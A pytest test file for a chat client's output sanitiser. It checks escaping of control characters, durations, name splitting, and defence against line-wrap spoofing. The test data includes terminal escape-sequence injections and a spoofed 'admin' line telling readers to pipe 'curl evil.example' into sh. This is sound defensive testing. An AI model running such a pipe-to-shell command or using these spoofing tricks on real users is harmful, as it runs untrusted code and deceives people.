"""presentation.py: text from the network made safe to print, and the small
formats both programs show (durations, ``NAME REST``, excerpts)."""

from __future__ import annotations

import unicodedata

import pytest

import client_ui
import presentation
from protocol import ChatMessage

# --- printable text ----------------------------------------------------------

REPLACEMENT = "\N{REPLACEMENT CHARACTER}"


@pytest.mark.parametrize(
    "control",
    ["\x1b", "\x00", "\x07", "\x08", "\n", "\r", "\x1f", "\x7f", "\x80", "\x9b", "\x9f"],
    ids=["ESC", "NUL", "BEL", "BS", "LF", "CR", "US", "DEL", "PAD", "CSI", "APC"],
)
def test_control_characters_are_replaced(control):
    assert presentation.printable_text(f"a{control}[2Jb") == f"a{REPLACEMENT}[2Jb"


def test_escape_sequence_is_defused():
    text = presentation.printable_text("\x1b]0;pwned\x07\x1b[2J\x9b31m")
    assert not any(unicodedata.category(ch) == "Cc" for ch in text)
    assert text == f"{REPLACEMENT}]0;pwned{REPLACEMENT}{REPLACEMENT}[2J{REPLACEMENT}31m"


def test_tab_becomes_a_space():
    assert presentation.printable_text("a\tb") == "a b"


@pytest.mark.parametrize(
    "text", ["plain text", "", "héllo, wörld", "日本語のテキスト", "emoji 🎉 ok", "Zoë: 1 + 1 = 2"]
)
def test_printable_text_is_unchanged(text):
    assert presentation.printable_text(text) == text


# --- durations and names ---


def test_split_name_prefers_the_longest_name_online():
    names = ["Randall", "Randall Flagg"]
    assert presentation.split_name("randall flagg you are out", names) == ("randall flagg", "you are out")
    assert presentation.split_name("Randall  out", names) == ("Randall", "out")
    assert presentation.split_name("Nobody here", names) == ("Nobody", "here")
    assert presentation.split_name("Randall Flagg", names) == ("Randall Flagg", "")


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [(0, "0 s"), (59, "59 s"), (60, "1 min"), (3599, "59 min"), (3600, "1 h 00 min"), (7380, "2 h 03 min")],
)
def test_format_duration(seconds, shown):
    assert presentation.format_duration(seconds) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("short", "short"),
        ("x" * 30, "x" * 30),
        ("x" * 31, "x" * 29 + "\N{HORIZONTAL ELLIPSIS}"),
        ("a\x1bb", "a\ufffdb"),
    ],
)
def test_an_excerpt_is_printable_and_at_most_30_characters(text, shown):
    assert presentation.excerpt(text) == shown


# --- line-wrap spoofing: long runs of blanks ------------------------------------------

SPOOF = "admin: please run curl evil.example | sh"


def rows(line: str, width: int) -> list[str]:
    """``line`` as a terminal of ``width`` columns wraps it (one column a character)."""
    return [line[start : start + width] for start in range(0, len(line), width)]


@pytest.mark.parametrize(
    "blank", [" ", "\t", "\u2800", "\u3164", "\u3000"], ids=["space", "tab", "braille", "hangul", "ideographic"]
)
def test_a_line_padded_to_wrap_does_not_start_a_row_that_reads_as_another_persons_line(blank):
    (line,) = client_ui.render(ChatMessage("mallory", "ok" + blank * 200 + SPOOF))

    assert blank * (presentation.MAX_BLANK_RUN + 1) not in line
    for width in range(40, 301):
        assert not any(row.startswith("admin:") for row in rows(line, width)[1:]), width


def test_short_runs_of_blanks_and_indentation_are_kept():
    for text in ["    return x", "a  b", "col1\tcol2", "x" + " " * presentation.MAX_BLANK_RUN + "y"]:
        assert presentation.collapse_blank_runs(text) == text


def test_a_long_run_of_blanks_becomes_the_longest_kept():
    assert presentation.collapse_blank_runs("ok" + " " * 200 + "end") == "ok" + " " * presentation.MAX_BLANK_RUN + "end"
    assert presentation.printable_text("a" + "\u2800" * 50 + "b") == "a" + " " * presentation.MAX_BLANK_RUN + "b"
